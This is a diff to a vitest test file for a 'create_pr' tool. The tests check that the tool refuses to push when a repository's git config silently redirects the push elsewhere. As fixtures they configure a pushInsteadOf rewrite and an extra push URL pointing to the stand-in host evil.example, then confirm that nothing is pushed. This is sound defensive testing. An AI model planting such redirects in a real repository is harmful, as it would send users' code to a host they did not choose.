@@ -3,9 +3,13 @@
  * repository pushing to a local bare one, GitHub replaced by the mock through `services.github`.
  */
 import { existsSync } from 'node:fs';
-import { readdir, rm } from 'node:fs/promises';
+import { mkdtemp, readdir, rm } from 'node:fs/promises';
 import * as path from 'node:path';
-import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { tmpdir } from 'node:os';
+import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { MocoErrorCodes } from '../../protocol/errors';
+import { checkPushUrls } from '../../server/src/github/branches';
+import { gitHubHosts } from '../../server/src/github/remote';
 import type { ToolContext, ToolResult } from '../../server/src/tools/types';
 import { createBaseToolRegistry } from '../../server/src/tools/baseTools';
 import { commitAll, createBareRemote, createRepo, git, writeFiles } from '../support/gitRepos';
@@ -166,5 +170,58 @@ describe('create_pr', { timeout: 30_000 }, () => {
     expect(branch.content).toBe('create_pr failed: "-f" is not a valid branch name. Choose a name such as feature/login.');
     expect(await remoteBranches(bare)).toEqual(['main']);
     expect(mock.pulls).toEqual([]);
+  });
+});
+
+describe('where create_pr pushes', { timeout: 30_000 }, () => {
+  it("refuses a push that the repository's config sends to another host, and pushes nothing", async () => {
+    mock = await startGitHubMock({ token: TOKEN, owner: 'octo-org', repo: 'hello-world' });
+    const { repo, bare } = await repository();
+    await git(repo, 'config', 'url.https://evil.example/.pushInsteadOf', 'https://github.com/');
+    const rewritten = await call({ title: 'T', body: '' }, repo, TOKEN);
+    // 127.0.0.1: the mock's API host counts as a GitHub Enterprise host.
+    expect(rewritten.content).toBe(
+      'create_pr failed: git push origin would go to https://evil.example/octo-org/hello-world.git, which is not on GitHub (github.com or 127.0.0.1): the repository\'s git config sends the push elsewhere ' +
+        '(a url.<base>.insteadOf or pushInsteadOf rewrite, or another remote.origin.pushurl; see git remote get-url --push --all origin), so the pull request would not hold what was pushed. ' +
+        'Remove that setting, or push and open the pull request yourself.',
+    );
+
+    await git(repo, 'config', '--unset', 'url.https://evil.example/.pushInsteadOf');
+    await git(repo, 'remote', 'set-url', '--add', '--push', 'origin', 'https://evil.example/copy.git');
+    await git(repo, 'remote', 'set-url', '--add', '--push', 'origin', 'https://github.com/octo-org/hello-world.git');
+    expect((await call({ title: 'T', body: '' }, repo, TOKEN)).content).toContain('git push origin would go to https://evil.example/copy.git, which is not on GitHub');
+    expect(await remoteBranches(bare)).toEqual(['main']);
+    expect(mock.pulls).toEqual([]);
+  });
+
+  it("allows a rewrite to GitHub over SSH, a path on this machine, and the user's own rewrite to an SSH host alias", async () => {
+    const repo = await createRepo({ 'a.txt': 'a\n' }, { commit: 'first' });
+    folders.push(path.dirname(repo));
+    await git(repo, 'remote', 'add', 'origin', 'https://github.com/octo-org/hello-world.git');
+    const hosts = gitHubHosts('https://api.github.com');
+    const signal = new AbortController().signal;
+    await git(repo, 'config', 'url.git@github.com:.pushInsteadOf', 'https://github.com/');
+    await expect(checkPushUrls(repo, 'origin', hosts, signal)).resolves.toBeUndefined();
+    await git(repo, 'config', 'url./srv/mirror/.pushInsteadOf', 'https://github.com/');
+    await expect(checkPushUrls(repo, 'origin', hosts, signal)).resolves.toBeUndefined();
+
+    // An SSH host alias (~/.ssh/config) is not GitHub's host by its name: the repository may not
+    // rewrite to it, the user's global config may.
+    await git(repo, 'config', '--remove-section', 'url./srv/mirror/');
+    await git(repo, 'config', '--remove-section', 'url.git@github.com:');
+    await git(repo, 'config', 'url.git@github-work:.pushInsteadOf', 'https://github.com/');
+    await expect(checkPushUrls(repo, 'origin', hosts, signal)).rejects.toMatchObject({ code: MocoErrorCodes.GitRemoteMissing });
+    await git(repo, 'config', '--remove-section', 'url.git@github-work:');
+    const home = await mkdtemp(path.join(tmpdir(), 'moco-home-'));
+    folders.push(home);
+    await writeFiles(home, { '.gitconfig': '[url "git@github-work:"]\n\tpushInsteadOf = https://github.com/\n' });
+    vi.stubEnv('HOME', home);
+    vi.stubEnv('XDG_CONFIG_HOME', path.join(home, '.config'));
+    try {
+      expect((await git(repo, 'remote', 'get-url', '--push', 'origin')).trim()).toBe('git@github-work:octo-org/hello-world.git');
+      await expect(checkPushUrls(repo, 'origin', hosts, signal)).resolves.toBeUndefined();
+    } finally {
+      vi.unstubAllEnvs();
+    }
   });
 });
